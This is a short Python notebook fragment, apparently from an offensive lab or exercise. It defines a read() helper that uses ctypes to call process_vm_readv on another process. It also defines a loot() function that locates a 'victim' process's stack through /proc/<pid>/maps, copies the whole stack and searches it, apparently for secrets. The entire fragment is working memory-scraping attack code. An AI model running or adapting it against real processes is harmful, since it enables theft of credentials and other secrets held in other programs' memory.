# %%
from kit import *

# %%
def read(process, address, size):
    buffer = ctypes.create_string_buffer(size)
    here = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), size)
    there = (ctypes.c_ulong * 2)(address, size)
    count = call("process_vm_readv", process, here, 1, there, 1, 0)
    return buffer.raw[:count] if count > 0 else b""


def loot():
    try:
        with open(f"/proc/{WORLD['victim']}/maps") as maps:
            stack = next(line for line in maps if "[stack]" in line)
    except (OSError, StopIteration):
        return None
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    return search(read(WORLD["victim"], start, end - start))
